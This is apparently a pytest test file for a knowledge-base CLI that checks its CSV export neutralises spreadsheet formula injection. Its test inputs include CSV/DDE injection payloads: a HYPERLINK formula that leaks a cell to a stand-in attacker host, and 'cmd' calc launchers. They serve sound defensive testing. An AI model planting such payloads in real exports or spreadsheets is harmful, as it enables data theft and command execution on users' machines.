"""``esfkb list --format csv`` is safe to open in a spreadsheet: no value runs as a formula or starts a row."""

from __future__ import annotations

import csv
import io
import json
import re
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

from hypothesis import given, settings
from hypothesis import strategies as st

from esfkb.browse.listing import Listing, list_csv
from esfkb.cli import main
from esfkb.model.builtin_kinds import BUSINESSMODEL

if TYPE_CHECKING:
    from pathlib import Path

    from click.testing import CliRunner

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")
"""The OWASP rule (= + - @ tab CR) and what defusedcsv adds (| for DDE, %); LF is a line break like CR."""

HOSTILE_TITLES = {
    "formule": '=HYPERLINK("https://aanvaller.example/?"&A1;"klik")',
    "plus": "+1+cmd|' /C calc'!A0",
    "min": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "|cmd",
    "procent": "%0A=1+1",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "rij": "Gewone titel\r=HYPERLINK(1)\r\n@SUM(1)\n+1",
}


def _is_plain_number(cell: str) -> bool:
    """defusedcsv's rule: a minus, digits, commas and dots (such as -3 or -1.234,5; its ``$`` lets one line break
    follow) build no formula."""
    return re.match(r"^-?[0-9,.]+$", cell) is not None


def _assert_defused(cell: str) -> None:
    assert not cell.startswith(FORMULA_STARTS) or _is_plain_number(cell), repr(cell)


def test_list_csv_defuses_every_formula_and_keeps_each_document_on_one_row(runner: CliRunner, project: Path,
                                                                            monkeypatch):
    model = project / "playbooks/businessmodellen/enclave-distributie.md"
    text = model.read_text(encoding="utf-8")
    for name, title in [*HOSTILE_TITLES.items(), ("getal", "-3")]:
        (model.parent / f"model-{name}.md").write_text(
            text.replace("titel: Enclave in een distributiecentrum", f"titel: {json.dumps(title)}"), encoding="utf-8")
    monkeypatch.chdir(project)
    result = runner.invoke(main, ["list", "businessmodel", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    titles = {row[0]: row[1] for row in rows[1:]}
    assert len(rows) == 1 + 1 + len(HOSTILE_TITLES) + 1
    for row in rows:
        for cell in row:
            _assert_defused(cell)
    assert titles["model-getal"] == "-3"
    assert titles["model-formule"] == "'" + HOSTILE_TITLES["formule"]
    assert titles["model-tab"] == "'\t=1+1" and titles["model-cr"] == "'\n=1+1"
    assert titles["model-rij"] == "Gewone titel\n=HYPERLINK(1)\n@SUM(1)\n+1"


def _listing(values: list[str]) -> Any:
    documents = [SimpleNamespace(rel_path=f"playbooks/businessmodellen/d{i}.md") for i in range(len(values))]
    return Listing(BUSINESSMODEL, ["id", "titel"], [[f"d{i}", v] for i, v in enumerate(values)], documents,
                   [{} for _ in values])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "a", "1", ",", '"', " ", "'", "\\"]), max_size=8),
                max_size=5))
def test_any_value_is_one_defused_cell(values):
    rows = list(csv.reader(io.StringIO(list_csv(_listing(values)), newline="")))
    assert len(rows) == 1 + len(values)
    for row, value in zip(rows[1:], values, strict=True):
        _assert_defused(row[1])
        kept = value.replace("\r\n", "\n").replace("\r", "\n")
        assert row[1] in (kept, "'" + kept, "'" + kept.replace("|", "\\|"))
